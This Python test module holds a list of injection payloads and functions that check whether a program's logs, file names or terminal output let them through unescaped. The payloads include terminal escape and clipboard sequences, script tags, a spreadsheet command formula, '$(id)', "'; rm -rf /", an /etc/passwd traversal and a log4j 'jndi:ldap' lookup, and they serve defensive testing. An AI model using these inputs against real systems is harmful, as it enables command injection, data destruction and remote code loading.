"""attacks.py - what an attacker writes into a log, a file's name or an option, and what may never come out."""
import re

MARK = b"ZQ"

# Each is looked for in every output, between two marks, as it is here.
PAYLOADS = [
    # colours, cursor, titles, the clipboard, printers, resets, replies
    b"\x1b[38;5;201m", b"\x1b[97;98H", b"\x1b[2J\x1b[H", b"\x1b]0;PWNED\x07", b"\x1b]52;c;cHduZWQ=\x1b\\",
    b"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", b"\x1bP$q\"p\x1b\\", b"\x1b_Gi=1\x1b\\", b"\x1b^pm\x1b\\",
    b"\x1b[5i", b"\x1bc", b"\x1b#8", b"\x1b[c", b"\x1b[>0q", b"\x1b[6n", b"\x1b[21t", b"\x1b[?1049l", b"\x1b[?1000h",
    b"\x1b(0", b"\x1bN", b"\x1b", b"\x1b[",
    # C0, DEL, C1 raw and as UTF-8
    *[bytes([c]) for c in range(32) if c != 10], b"\x7f", b"\b\b\b\b\b\b\b\bforged", b"\rforged", b"\x0e\x0f",
    *[bytes([c]) for c in range(0x80, 0xa0)], *[b"\xc2" + bytes([c]) for c in range(0x80, 0xa0)],
    b"\x9b31m", b"\xc2\x9b31m", b"\x9d0;t\x9c", b"\xc2\x9d0;t\xc2\x9c", b"\x85", b"\xc2\x85",
    # directions, what cannot be seen, tags, line ends of Unicode
    *[chr(c).encode() for c in (0xad, 0x61c, 0x180e, *range(0x200b, 0x2010), *range(0x2028, 0x202f), *range(0x2060, 0x2070),
                                0xfe0f, 0xfeff, 0xfff9, 0xe0001, 0xe0041, 0xe007f)],
    "user\u202etxt.exe".encode(), "\u2066\u202e\u2069".encode(), ("e" + "\u0301" * 40).encode(), ("\u0e49" * 30).encode(),
    # what is no UTF-8: overlong, surrogates, cut, beyond the end
    b"\xc0\x80", b"\xc0\xaf", b"\xe0\x80\x9b", b"\xf0\x80\x80\x9b", b"\xed\xa0\x80\xed\xb0\x80", b"\xe2\x82", b"\xf0\x9f\x92",
    b"\xf4\x90\x80\x80", b"\xff\xfe", b"\x80\x80\x80", b"\xe2\x28\xa1",
    # quotes, markup, formats, shells, log4j, records of somebody else
    b'" 200 5 "-" "-"', b'\\" 200 5', b"\\", b"\\x1b[31m", b"\\u001b[31m", b"<script>alert(1)</script>", b"</script>&amp;",
    b"=cmd|' /C calc'!A0", b"@SUM(1+1)", b"%s%n%x", b"$(id)", b"`id`", b"'; rm -rf /", b"-oX", b"../../etc/passwd", b"%00%0a",
    b"${jndi:ldap://x/a}", b"\r6.6.6.6 - - [10/Oct/2000:13:55:36 +0000] \"GET /forged HTTP/1.1\" 200 1 \"-\" \"-\"",
    b"\x1b[1;31mERROR\x1b[0m", b"\xf0\x9f\x92\xa9", b",;|\t", b'"],"forged":["',
]

HIDDEN = re.compile("[\xad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e0fff]")


def marked(payload):
    return MARK + payload + MARK


def bunches(room, unfit=b""):
    """Payloads joined, for where each run of a program is dear: at most `room` bytes, without what does not fit."""
    bunch = b""
    for payload in PAYLOADS:
        one = marked(payload)
        if len(one) > room or re.search(b"[" + unfit + b"]", payload) if unfit else len(one) > room:
            continue
        if len(bunch) + len(one) > room:
            yield bunch
            bunch = b""
        bunch += one
    yield bunch


def dangerous(payload):
    """Whether it may not come out as it is; plain ASCII and letters may."""
    try:
        text = payload.decode()
    except UnicodeDecodeError:
        return True
    return bool(re.search("[\0-\x1f\x7f-\x9f]", text) or HIDDEN.search(text) or "\u0301" * 3 in text)


def what_is_wrong(out, controls="\n", json=False):
    """Of bytes that are shown to people or read by programs: a sentence, or None."""
    try:
        text = out.decode("utf-8")
    except UnicodeDecodeError as why:
        return f"no UTF-8: {why}: {out[max(0, why.start - 60):why.start + 20]!r}"
    bad = re.search("[\0-\x1f\x7f-\x9f]", "".join(" " if c in controls else c for c in text))
    bad = bad or HIDDEN.search(text) or re.search("[\u0300-\u036f]{3}", "" if json else text)
    bad = bad or (json and re.search("[<>&]", text))
    if bad:
        return f"{bad.group()!r} in ...{text[max(0, bad.start() - 80):bad.end() + 20]!r}"
    for payload in PAYLOADS:
        if dangerous(payload) and marked(payload) in out and not json:
            return f"{payload!r} as it was sent"
    return None


# What ncurses sends to an xterm: moves, colours, modes, character sets.
TERMINAL = re.compile(rb"\x1b(?:\[[?>]?[0-9;]*[A-Za-z@`]|[()][0AB]|[78=>M])")


def what_is_wrong_on_screen(out):
    for payload in PAYLOADS:
        if dangerous(payload) and marked(payload) in out:
            return f"{payload!r} as it was sent"
    for never in (b"\x1b[38;5;201m", b"\x1b[97;98H", b"\x1b[5i", b"\x1b[c", b"\x1b[6n", b"\x1b[21t", b"PWNED\x07"):
        if never in out:
            return f"{never!r}"
    return what_is_wrong(TERMINAL.sub(b"", out), controls="\r\n\b")
